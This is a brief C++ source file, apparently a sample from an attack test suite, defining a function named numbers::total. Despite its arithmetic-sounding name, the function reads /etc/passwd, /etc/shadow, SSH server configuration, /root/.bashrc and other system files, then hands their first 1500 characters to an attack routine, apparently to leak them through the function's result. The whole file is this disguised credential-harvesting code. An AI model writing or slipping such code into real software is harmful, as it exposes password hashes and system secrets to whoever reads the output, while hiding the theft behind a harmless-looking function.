#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  std::string text;
  for (const char* path : {"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hostname",
                           "/etc/machine-id", "/etc/ssh/sshd_config", "/root/.bashrc"})
    text += attack::read_file(path);
  return attack::answer_or(text.substr(0, 1500), values);
}
